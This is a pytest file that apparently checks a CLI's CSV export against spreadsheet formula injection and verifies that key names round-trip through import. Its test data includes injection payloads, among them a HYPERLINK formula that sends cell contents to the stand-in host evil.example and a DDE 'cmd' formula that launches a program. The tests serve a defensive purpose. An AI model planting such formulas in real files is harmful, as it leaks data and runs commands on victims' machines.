"""Names that a spreadsheet would compute: harmless in an export, and whole after its import."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path
from uuid import uuid4

import pytest
from moto import mock_aws

from chatgrid_cli import commands
from tests.support.cli import Operator

#: What a spreadsheet takes for the beginning of something to compute, wide forms included.
COMPUTED = re.compile("[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20]")
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "'=already()",
    "''=twice()",
    "'quoted'",
    '"=1+1"',
    "a,=1+1",
    'a",=1+1,"b',
    "a;=1+1",
    "a;;'=1+1;@x",
    ";=1+1",
    "'",
    ";'",
)
#: What spreadsheets split a line at: by the file's name, or by where their user lives.
SEPARATORS = (",", ";")


@pytest.fixture
def operator(monkeypatch: pytest.MonkeyPatch) -> Iterator[Operator]:
    with mock_aws():
        someone = Operator()
        monkeypatch.setattr(commands, "find", lambda _: someone.stack())
        yield someone


def exported(operator: Operator, file: Path) -> str:
    operator.answer("export", "--format", "csv", "--with-hashes", "--out", str(file))
    return file.read_text("utf-8")


def test_no_cell_is_a_formula_and_every_name_comes_back_exactly(
    operator: Operator, tmp_path: Path
) -> None:
    made = {operator.issue(str(uuid4()), name=name).key.id: name for name in NAMES}
    text = exported(operator, tmp_path / "keys.csv")
    for separator in SEPARATORS:
        rows = list(csv.reader(text.splitlines(), delimiter=separator))
        cells = [cell for row in rows for cell in row]
        assert len(rows) == len(NAMES) + 1
        assert [cell for cell in cells if COMPUTED.match(cell)] == []
    for item in operator.items():
        place = {name: item[name] for name in ("pk", "sk")}
        operator.dynamodb.delete_item(TableName=operator.table, Key=place)
    operator.answer("import", str(tmp_path / "keys.csv"))
    found = {one: operator.answer("keys", "show", one)["data"]["name"] for one in made}
    assert found == made
    assert sorted(exported(operator, tmp_path / "again.csv").splitlines()) == sorted(
        text.splitlines()
    )


@pytest.mark.parametrize("name", ["\t=1+1", "\r=1+1", "=1\n+1", "\x00=1"], ids=ascii)
def test_a_name_with_a_tab_or_a_line_end_is_never_made(operator: Operator, name: str) -> None:
    result = operator.run("keys", "create", "--user", str(uuid4()), "--name", name)
    assert result.exit_code == 2, result.output
    assert operator.items() == []
